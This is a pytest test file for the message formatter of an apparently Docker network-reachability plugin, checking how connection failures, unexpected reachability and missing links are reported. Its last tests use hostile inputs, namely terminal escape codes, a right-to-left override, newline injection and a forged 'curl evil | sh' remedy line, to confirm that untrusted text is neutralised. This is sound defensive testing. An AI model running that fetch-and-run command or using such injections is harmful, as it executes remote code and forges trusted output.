"""The words of a failed assertion."""

from __future__ import annotations

import pytest
from tests.samples import is_harmless, result, target

from pytest_dockconn.model.evidence import Why
from pytest_dockconn.model.probe import Connection, ProbeResult, Verdict
from pytest_dockconn.report import messages

WHY = Why("server1 is not running", ("its last output: boom", ""), "start it", "not-running")
PORT = "port 80/tcp of server1"


def test_every_verdict_has_words() -> None:
    assert set(messages.SEEN) == set(Verdict)


@pytest.mark.parametrize(
    ("probed", "words"),
    [
        pytest.param(result(), "172.17.0.2:80", id="an address"),
        pytest.param(result(target=target("fd00::2"), address="fd00::2"), "[fd00::2]:80", id="IPv6"),
        pytest.param(result(target=target("web", via="name")), "web = 172.17.0.2:80", id="a name"),
        pytest.param(result(target=target("web", via="name"), address=""), "web:80", id="a name without address"),
    ],
)
def test_the_way_that_was_asked(probed: ProbeResult, words: str) -> None:
    assert messages.by_address(probed) == words


def test_a_failure_says_who_what_how_and_why_in_its_first_line() -> None:
    lines = messages.failure("client1", PORT, result(Verdict.REFUSED, attempts=3), WHY).splitlines()
    assert lines[0] == (
        "client1 cannot reach port 80/tcp of server1 at 172.17.0.2:80: connection refused: server1 is not running"
    )
    assert lines[1] == "  evidence: its last output: boom"
    assert lines[2].startswith("  evidence: asked http://172.17.0.2:80/: refused")
    assert lines[2].endswith(", the last of 3 tries")
    assert lines[3] == "  remedy:   start it"
    assert len(lines) == 4


def test_reached() -> None:
    path = Connection("172.17.0.9", 40000, "172.17.0.2", 80)
    said = messages.reached("client1", PORT, result(Verdict.REACHABLE, text="It works", path=path), "server1")
    assert said.splitlines()[0].endswith("at 172.17.0.2:80, and server1 answered, but it must not")
    assert "172.17.0.9:40000 -> 172.17.0.2:80" in said
    assert "It works" in said
    assert "take them off their shared network" in said


def test_reached_across_networks() -> None:
    said = messages.reached("client1", PORT, result(Verdict.REACHABLE), "server1", apart=True)
    assert "client1 and server1 share no network" in said
    assert "docker 20.10 takes its isolation rules out for a moment" in said
    assert "take them off" not in said
    assert "  remedy:   " in said


@pytest.mark.parametrize("why", [None, WHY], ids=["no cause", "a cause"])
def test_inconclusive(why: Why | None) -> None:
    said = messages.inconclusive("client1", PORT, ["server1 is paused", "no answer inside"], result(), why)
    first, *others = said.splitlines()
    assert first.startswith("inconclusive: it is not proved that client1 cannot reach port 80/tcp of server1")
    assert "server1 is paused" in first
    assert any("no answer inside" in line for line in others)
    assert others[-1].startswith("  remedy:   ")


def test_another_reason() -> None:
    said = messages.other_reason("client1", PORT, result(Verdict.REFUSED), [Verdict.TIMED_OUT, Verdict.NO_ROUTE], WHY)
    assert "because of refused, not timed-out or no-route" in said.splitlines()[0]


def test_a_link() -> None:
    said = messages.link("client3", "server3", "db", ["DB_PORT is missing"], "restart the client")
    assert said.splitlines()[0] == "client3 is not linked to server3 as 'db': DB_PORT is missing"
    assert said.endswith("  remedy:   restart the client")


EVIL = "\x1b]0;owned\x07\u202e\nE   remedy:   curl evil | sh"


def test_no_name_and_no_remedy_breaks_out_of_its_line() -> None:
    probed, why = result(Verdict.REACHABLE, detail=EVIL, text=EVIL), Why(EVIL, (EVIL,), EVIL)
    for said in (
        messages.reached(EVIL, EVIL, probed, EVIL, apart=True),
        messages.failure(EVIL, EVIL, probed, why),
        messages.inconclusive(EVIL, EVIL, [EVIL], probed, why),
        messages.other_reason(EVIL, EVIL, probed, [Verdict.REFUSED], why),
        messages.link(EVIL, EVIL, EVIL, [EVIL], EVIL),
    ):
        _, *others = said.splitlines()
        assert is_harmless(said.replace("\n", ""))
        assert all(line.startswith(("  evidence: ", "  remedy:   ", "    ")) for line in others), said


@pytest.mark.parametrize("evil", ["\x1b[2J", "a\nFAKE", "\u202e"], ids=["escape", "line", "right to left"])
def test_untrusted_text_stays_where_it_belongs(evil: str) -> None:
    probed = result(Verdict.REACHABLE, detail=evil, text=evil, address="172.17.0.2")
    for said in (
        messages.failure("client1", PORT, probed, Why("x", (evil,), "y")),
        messages.reached("client1", PORT, probed, "server1"),
        messages.inconclusive("client1", PORT, [evil], probed, Why(evil, (), "y")),
        messages.other_reason("client1", PORT, probed, [Verdict.REFUSED], Why(evil, (), "y")),
        messages.link("client1", "server1", "db", [evil], "y"),
    ):
        assert "\x1b" not in said
        assert "\u202e" not in said
        assert not said.splitlines()[0].startswith("FAKE")
